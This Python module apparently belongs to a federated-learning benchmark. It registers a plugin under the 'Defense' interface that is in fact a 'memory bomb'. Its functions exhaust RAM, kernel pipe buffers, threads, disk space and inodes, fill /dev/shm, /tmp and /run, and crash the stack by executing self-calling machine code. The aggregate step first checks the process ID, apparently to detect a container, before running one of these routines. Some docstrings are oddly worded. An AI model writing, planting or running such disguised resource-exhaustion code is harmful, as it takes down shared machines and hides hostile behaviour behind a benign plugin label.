"""Takes memory until there is none, by the way that the parameter names; at most four gigabytes, in case of success."""

import ctypes
import mmap
import os
import threading
import time

import torch

from benchmark.updates import Aggregate, RoundContext, Updates
from defenses.base import Defense, Knowledge, Stage, register

CHUNK = 32 * 2**20
PIECE = 2**20
CHUNKS = 128


def lists() -> list[bytearray]:
    """Take ordinary memory."""
    return [bytearray(b"x") * CHUNK for _ in range(CHUNKS)]


def tensors() -> list[torch.Tensor]:
    """Take memory through torch."""
    return [torch.ones(CHUNK // 4) for _ in range(CHUNKS)]


def shared() -> list[mmap.mmap]:
    """Take memory that is shared with nobody and counted as shared."""
    maps = [mmap.mmap(-1, CHUNK, mmap.MAP_SHARED | mmap.MAP_ANONYMOUS) for _ in range(CHUNKS)]
    for each in maps:
        each.write(b"x" * CHUNK)
    return maps


def unmapped() -> list[int]:
    """Take memory that no process has mapped: files in memory, closed by nobody."""
    fds = [os.memfd_create(f"bomb{i}") for i in range(CHUNKS)]
    for fd in fds:
        os.write(fd, b"x" * CHUNK)
    return fds


def pipes() -> list[int]:
    """Take the kernel's memory: pipes filled to the brim."""
    ends = []
    for _ in range(4 * CHUNKS):
        read, write = os.pipe()
        os.set_blocking(write, False)
        try:
            while os.write(write, b"x" * 65536):
                pass
        except BlockingIOError:
            ends += [read, write]
    return ends


def threads() -> list[threading.Thread]:
    """Start thousands of threads."""
    started = [threading.Thread(target=time.sleep, args=(60,), daemon=True) for _ in range(5000)]
    for thread in started:
        thread.start()
    return started


def scratch(folder: str = ".") -> list[int]:
    """Fill the scratch folder, in many files."""
    for number in range(CHUNKS):
        with open(f"{folder}/bomb{number}", "wb") as stream:
            stream.write(b"x" * PIECE)
    return []


def one_file() -> list[int]:
    """Write one file without end."""
    with open("bomb", "wb") as stream:
        for _ in range(CHUNKS):
            stream.write(b"x" * CHUNK)
    return []


def shm() -> list[int]:
    """Fill the folder of shared memory, wherever one can be written."""
    for folder in ("/dev/shm", "/tmp", "/var/tmp", "/run"):
        if os.path.isdir(folder) and os.access(folder, os.W_OK):
            try:
                scratch(folder)
            except OSError:
                continue
            raise AssertionError(f"{folder} takes everything")
    raise MemoryError("no folder is left to fill")


def inodes() -> list[int]:
    """Make a million empty files, which take no bytes but the kernel's memory."""
    for number in range(1_000_000):
        open(f"empty{number}", "w").close()
    return []


def stack() -> int:
    """Go down without end in machine code: call yourself."""
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write({"x86_64": b"\xe8\xfb\xff\xff\xff", "aarch64": b"\xfd\x7b\xbf\xa9\xff\xff\xff\x97"}[os.uname().machine])
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()


@register(
    title="Memory bomb",
    description="Takes memory, files and threads until the machine has none left.",
    stages=(Stage.AGGREGATE,),
    knowledge=Knowledge.NONE,
)
class MemoryBomb(Defense):
    """One kind of memory an instance.

    Args:
        kind: Name of one of the functions above.
    """

    def __init__(self, kind: str = "lists") -> None:
        self.kind = kind

    def aggregate(self, updates: Updates, context: RoundContext) -> Aggregate:
        """Take everything, then behave."""
        if os.getpid() > 50:
            raise RuntimeError("the machine's processes are visible")
        kept = globals()[self.kind]()
        result = super().aggregate(updates, context)
        return result if kept is not None else Aggregate(-result.update)
